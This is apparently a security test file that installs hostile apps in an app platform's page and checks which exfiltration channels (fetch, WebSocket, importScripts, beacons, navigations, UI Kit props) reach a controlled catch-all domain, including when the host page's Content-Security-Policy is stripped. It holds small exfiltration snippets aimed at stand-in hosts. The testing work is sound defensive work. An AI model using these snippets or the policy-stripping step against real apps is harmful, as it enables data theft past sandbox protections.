// The hostile apps of exfil.test.js in a product as it is: installed in Tracker, in its page of
// apps, whose own policy is taken away on the way to the browser. One has a page of its own and
// tries the same ways out; one is made of UI Kit and puts addresses and CSS into every prop.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { catchAll, domain } from './catch.js';
import { start } from './demo.js';
import { channels, granted, near } from './exfil_channels.js';
import { pictures, props, source } from './exfil_props.js';
import { more } from './exfil_table.js';

// These end the document that tries them, or change what comes after: each has a page of its own.
const alone = new Set(['form post', 'form to a popup', 'self-navigation', 'self-navigation by replace', 'meta refresh', 'base and a relative request', 'download', 'top navigation', 'parent navigation', 'javascript: link', 'report endpoints', 'external protocol',
  'self-navigation to a sibling', 'self-navigation to a web trigger', 'self-navigation to the platform']);
const ways = { ...channels, ...near };
const slug = (name) => name.toLowerCase().replace(/[^a-z]+/g, '-').replace(/^-|-$/g, '').slice(0, 60);
const silent = new Set(); // what was not tried
const files = {
  'index.html': '<!doctype html><html><head><meta charset=utf-8><title>hostile</title></head><body><p>app</p></body></html>',
  'worker.js': `const to = decodeURIComponent(location.hash.slice(1)); fetch(to, {mode: 'no-cors'}); new WebSocket(to.replace('https:', 'wss:')); importScripts(to + '/w.js');`,
  'service.js': `fetch(new URL(location).searchParams.get('to'), {mode: 'no-cors'});`,
};

let dir, catching, demo, at;
before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'annex-exfil-tracker-'));
  catching = await catchAll();
  demo = await start({
    executablePath: catching.executablePath, profile: join(dir, 'profile'), options: { ignoreHTTPSErrors: true, permissions: [] },
    args: ['--ignore-certificate-errors', '--disable-popup-blocking', '--disable-features=Translate'],
  });
  const page = await demo.browser.newPage();
  await page.goto(demo.access.productPageUrl);
  await page.getByLabel('Name').fill('alice');
  await page.getByLabel('Password').fill(demo.access.users.alice.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('heading', { name: 'Demo project' }).waitFor();
  await page.close();
  const { documents } = await demo.run(demo.access.adminToken, join(demo.apps, 'board'), 'explain', 'csp', ...where());
  const { port } = new URL(demo.access.uiUrl);
  at = { sibling: documents.ui, hook: `http://0123456789abcdef0123456789abcdef.hooks.localhost:${port}`, ui: demo.access.uiUrl, control: demo.access.url };
});
after(async () => {
  await demo?.stop();
  await catching?.stop();
  rmSync(dir, { recursive: true, force: true });
});

const where = () => ['--environment', 'development', '--site', demo.access.site, '--product', demo.access.product];
const host = (name, mode) => `${slug(name)}.${mode}.${domain}`;
const address = (name, mode) => `https://${host(name, mode)}:${catching.port}`;

// installed has an app in Tracker's page of apps while it is used.
async function installed(name, mode, module, write, use) {
  const app = join(dir, `${name}-${mode}`);
  const to = (scheme) => `"${scheme}://*.${mode}.${domain}:${catching.port}"`;
  const external = mode === 'nothing' ? '{}' : `{fetch: {client: [${to('https')}, ${to('wss')}]}, images: [${to('https')}]}`;
  mkdirSync(join(app, 'static'), { recursive: true });
  writeFileSync(join(app, 'manifest.yml'), `app: {id: "", name: hostile ${name}, runtime: {name: nodejs22.x}}
permissions: {scopes: [], external: ${external}}
modules:
  "tracker:globalPage": [{key: page, title: Hostile, ${module}}]
`);
  write(app);
  await demo.run(demo.access.developerToken, app, 'deploy', '--environment', 'development');
  const { id, installation } = await demo.run(demo.access.adminToken, app, 'install', '--confirm', ...where());
  try {
    await use();
  } finally {
    await demo.run(demo.access.adminToken, app, 'uninstall', '--confirm', id ?? installation);
  }
}

// open shows Tracker's page of apps without Tracker's own policy, and gives the frame that looks so.
async function open(looks) {
  const page = await demo.browser.newPage();
  const session = await page.context().newCDPSession(page);
  await session.send('Fetch.enable', { patterns: [{ urlPattern: `${demo.access.productPageUrl}/*`, resourceType: 'Document', requestStage: 'Response' }] });
  let bare = false;
  session.on('Fetch.requestPaused', ({ requestId, responseStatusCode, responseHeaders }) => {
    bare = true;
    void session.send('Fetch.continueResponse', { requestId, responseCode: responseStatusCode, responseHeaders: responseHeaders.filter((h) => !/^content-security-policy$/i.test(h.name)) }).catch(() => {});
  });
  page.on('popup', (p) => page.once('close', () => p.close().catch(() => {})));
  await page.goto(`${demo.access.productPageUrl}/apps`);
  assert.ok(bare, 'the product’s own policy stayed');
  for (let n = 0; n < (+process.env.TRIES || 300); n++) {
    for (const f of page.frames()) if (await looks(f).catch(() => false)) return { page, frame: f };
    await wait(100);
  }
  const said = await Promise.all(page.frames().map(async (f) => `${f.url()}: ${(await f.evaluate(() => document.body.innerText).catch(String)).slice(0, 300)}`));
  throw new Error(`the app is not there: ${said.join('\n')}`);
}

// attempt runs ways out one after the other in the app's own document.
async function attempt(mode, names) {
  const { page, frame } = await open(async (f) => f.url().includes('.apps.localhost') && (await f.title()) === 'hostile');
  const hears = new Set(names.filter((n) => near[n]));
  page.on('response', (r) => { for (const n of hears) if (Object.values(at).some((there) => r.url().startsWith(there)) && frameOf(r) === frame) catching.note(host(n, mode), 'response'); });
  for (const name of names) {
    const args = near[name] ? [at] : [address(name, mode), await catching.udp(host(name, mode))];
    const tried = frame.evaluate(`Promise.race([(async () => (${ways[name]})(...${JSON.stringify(args)}))().catch(String), new Promise((r) => setTimeout(r, 700))]).then((v) => String(v ?? ''))`).catch(String);
    const said = await Promise.race([tried, wait(3000, 'began')]);
    if (/Target (page|frame)|detached|closed/i.test(said) && !alone.has(name)) silent.add(name);
    if (said === 'came to pass') catching.note(host(name, mode), 'came to pass');
    if (hears.delete(name)) await wait(200);
  }
  await wait(1500); // nothing tells that a request was not made
  await page.close();
}

// frameOf is the frame that a response came to, null where it is gone.
function frameOf(r) {
  try {
    return r.frame();
  } catch {
    return null;
  }
}

const arrived = (caught) => caught.filter((what) => what !== 'dns' && what !== 'tls');
const caught = (name, mode) => catching.hits.get(host(name, mode)) ?? [];
const results = { nothing: {}, granted: {} };

for (const mode of ['nothing', 'granted']) {
  test(`a page of its own in Tracker: ${mode}`, async () => {
    const write = (app) => {
      appendFileSync(join(app, 'manifest.yml'), 'resources: [{key: main, path: static}]\n');
      for (const [file, text] of Object.entries(files)) writeFileSync(join(app, 'static', file), text);
    };
    const names = Object.keys(ways);
    await installed('page', mode, 'resource: main', write, async () => {
      await attempt(mode, names.filter((n) => !alone.has(n)));
      for (const name of names.filter((n) => alone.has(n))) await attempt(mode, [name]);
    });
    for (const n of names) results[mode][`in Tracker: ${n}`] = caught(n, mode);
    assert.deepEqual([...silent], [], 'these were not tried');
    if (mode === 'nothing') assert.deepEqual(names.filter((n) => caught(n, mode).length).map((n) => `${n}: ${caught(n, mode)}`), [], 'left where nothing is granted');
    else {
      assert.deepEqual(names.filter((n) => arrived(caught(n, mode)).length && !granted.has(n)), [], 'left by a way that is not granted');
      assert.deepEqual(['fetch', 'image', 'CSS image', 'beacon'].filter((n) => !arrived(caught(n, mode)).length), [], 'granted, and stopped');
    }
  });

  test(`every prop of UI Kit in Tracker: ${mode}`, async () => {
    const hosts = Object.fromEntries(props.map((n) => [n, address(n, mode)]));
    const write = (app) => {
      mkdirSync(join(app, 'src'));
      writeFileSync(join(app, 'src', 'page.jsx'), source(hosts));
      appendFileSync(join(app, 'manifest.yml'), 'resources: [{key: main, path: src/page.jsx}]\n');
    };
    await installed('kit', mode, 'resource: main, render: native', write, async () => {
      const { page, frame } = await open(async (f) => (await f.getByText('everything is drawn').count()) > 0);
      assert.ok((await frame.locator('.k-box').count()) > css, 'the boxes are not there');
      // What a person does with what is drawn: pointing, focus, a click that is not confirmed.
      await frame.evaluate(() => {
        for (const a of document.querySelectorAll('a, button, input')) {
          for (const type of ['pointerover', 'mouseover', 'mousemove', 'focusin', 'touchstart', 'pointerdown', 'mousedown']) a.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
        }
        for (const a of document.querySelectorAll('a')) for (const init of [{}, { ctrlKey: true }, { button: 1 }]) a.dispatchEvent(new MouseEvent(init.button ? 'auxclick' : 'click', { bubbles: true, cancelable: true, ...init }));
      });
      await wait(1500);
      await page.close();
    });
    for (const n of props) results[mode][n] = caught(n, mode);
    if (mode === 'nothing') assert.deepEqual(props.filter((n) => caught(n, mode).length).map((n) => `${n}: ${caught(n, mode)}`), [], 'left where nothing is granted');
    else {
      assert.deepEqual(props.filter((n) => arrived(caught(n, mode)).length && !pictures.has(n)), [], 'left by what shows no picture');
      assert.ok(arrived(caught('UI Kit: Image src', mode)).length, 'granted, and stopped');
    }
  });
}
const css = 100; // boxes at least, of those that carry styles

after(() => {
  const { EXFIL_JSON, EXFIL_TABLE } = process.env;
  const rows = Object.keys(results.nothing).map((channel) => ({ channel, nothing_granted: results.nothing[channel].length, baseline: null, granted: arrived(results.granted[channel] ?? []).length }));
  if (EXFIL_JSON) writeFileSync(`${EXFIL_JSON}.tracker`, JSON.stringify(rows));
  if (EXFIL_TABLE) appendFileSync(EXFIL_TABLE, more(rows));
});
